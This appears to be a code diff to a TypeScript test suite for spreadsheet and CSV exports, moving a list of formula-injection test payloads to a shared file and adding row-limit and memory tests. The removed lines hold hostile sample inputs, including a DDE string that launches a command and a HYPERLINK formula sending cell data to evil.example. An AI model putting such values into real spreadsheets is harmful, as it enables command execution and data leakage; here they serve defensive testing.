@@ -4,23 +4,12 @@ import path from 'node:path'
 import { parse } from 'csv-parse/sync'
 import { readSheet } from 'read-excel-file/node'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { harmless, TooManyRows, writeTable } from '../../src/documents/table-files.ts'
+import { harmless, writeTable } from '../../src/documents/table-files.ts'
+import { MAX_XLSX_ROWS, SheetFull } from '../../src/documents/xlsx.ts'
 import { auditExport, type ExportName, exportTable } from '../../src/store/exports.ts'
 import { findScope } from '../../src/store/organisations.ts'
 import { type ApiWorld, apiWorld, TIMEZONE } from '../http/api/world.ts'
-
-const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '|', '%']
-const PAYLOADS = SIGNS.flatMap((sign) => [
-  `${sign}1+1`,
-  `${sign}cmd|' /C calc'!A0`,
-  `${sign}HYPERLINK("http://evil.example/?"&A1,"点这里")`,
-  `看这里\n${sign}1+1`,
-  `看这里\r\n${sign}SUM(A1:A9)`,
-  `一;${sign}1+1`,
-  `一,"${sign}1+1`,
-  `"${sign}1+1"`,
-  `'${sign}1+1`,
-])
+import { FORMULA_PAYLOADS as PAYLOADS } from '../support/formula-payloads.ts'
 
 /** Columns that hold what somebody wrote. */
 const FREE_WORDS = {
@@ -158,15 +147,38 @@ describe('an export', () => {
     expect(rows).toEqual([{ actor: 'cli', action: 'export' }])
   })
 
-  test('of more than fits into memory as XLSX is refused before it is made, and written as CSV', async () => {
-    const header = Array.from({ length: 1_000 }, (_, i) => String(i))
+  test('of more rows than a sheet holds is refused as XLSX, and written as CSV', async () => {
     async function* rows() {
-      for (let i = 0; i < 1_000; i++) yield header
+      for (let i = 0; i < MAX_XLSX_ROWS; i++) yield ['一']
     }
     const file = path.join(folder, 'large.xlsx')
-    await expect(writeTable(file, { format: 'xlsx', header, rows: rows() })).rejects.toThrow(TooManyRows)
-    expect(await writeTable(path.join(folder, 'large.csv'), { format: 'csv', header, rows: rows() })).toBe(1_000)
-  })
+    await expect(writeTable(file, { format: 'xlsx', header: ['甲'], rows: rows() })).rejects.toThrow(SheetFull)
+    expect(await writeTable(path.join(folder, 'large.csv'), { format: 'csv', header: ['甲'], rows: rows() })).toBe(
+      MAX_XLSX_ROWS,
+    )
+  }, 60_000)
+
+  test('takes no more memory for a hundred thousand cases than for a thousand', async () => {
+    const row = Array.from({ length: 36 }, (_, i) => `第${i}列 3号楼2单元楼道灯坏了两天了`)
+    async function* rows(count: number) {
+      for (let i = 0; i < count; i++) yield [`A3-${i}`, ...row]
+    }
+    const heldWhile = async (count: number) => {
+      let most = 0
+      async function* watched() {
+        for await (const one of rows(count)) {
+          if (Math.random() < 0.001) most = Math.max(most, process.memoryUsage().rss)
+          yield one
+        }
+      }
+      await writeTable(path.join(folder, 'long.xlsx'), { format: 'xlsx', header: ['编号', ...row], rows: watched() })
+      return most / 2 ** 20
+    }
+    await heldWhile(5_000)
+    const few = await heldWhile(5_000)
+    const many = await heldWhile(100_000)
+    expect(many - few).toBeLessThan(150)
+  }, 120_000)
 
   test('that fails half-way leaves nothing behind', async () => {
     async function* rows() {
